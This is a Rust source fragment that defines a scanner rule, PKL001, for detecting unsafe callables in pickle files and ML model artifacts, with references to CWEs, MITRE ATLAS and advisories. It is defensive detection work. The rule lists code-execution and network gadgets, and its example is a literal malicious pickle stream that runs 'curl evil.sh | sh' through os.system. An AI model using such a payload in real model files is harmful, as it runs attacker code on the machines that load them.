declare_rule! {
    /// ## What it detects
    /// A pickle that imports, instantiates or calls a callable from the scanner's severity
    /// table: shell and process execution (`os.system`, `subprocess.*`, `pty.spawn`), Python
    /// code execution (`builtins.eval/exec`, `runpy`, `code`, `timeit`, `cProfile.run`, the torch,
    /// numpy, pip and idlelib gadgets), file and network access (`builtins.open`, `shutil`,
    /// `socket`, `urllib`, `requests`), second-stage loaders (`pickle.loads`, `torch.load`,
    /// `numpy.load`), name resolvers (`builtins.getattr`, `operator.attrgetter`,
    /// `pkgutil.resolve_name`) and dunder walks (`numpy.__builtins__`). Names are resolved the way
    /// the unpickler resolves them: memo replays, `posix`/`nt` for `os`, Python 2 names, and dotted
    /// names through re-exporting modules (`pathlib` + `os.system`). The severity (critical or
    /// high) comes from the table; allowlisted callables never reach it.
    ///
    /// ## Why it matters
    /// Unpickling imports every global the stream names and runs every call it makes, before the
    /// loading code sees the result. One such opcode in a model file runs code on the machine
    /// that loads it.
    ///
    /// ## Example
    /// `cposix\nsystem\n(S'curl evil.sh | sh'\ntR.` — REDUCE calls `os.system`.
    ///
    /// ## References
    /// CWE-502, CWE-94; MITRE ATLAS AML.T0011.000 (User Execution: Unsafe ML Artifacts),
    /// AML.T0010.003; OWASP ML06:2023; GHSA-4r9r-ch6f-vxmx, GHSA-q77w-mwjj-7mqx,
    /// GHSA-5j3x-jp52-966f, CVE-2025-1716.
    pub static RULE = {
        code: "PKL001",
        name: "unsafe-pickle-callable",
        family: Pickle,
        severity: Critical,
        summary: "Pickle imports or calls a callable that runs code, touches files or the network, or loads another payload",
    };
}
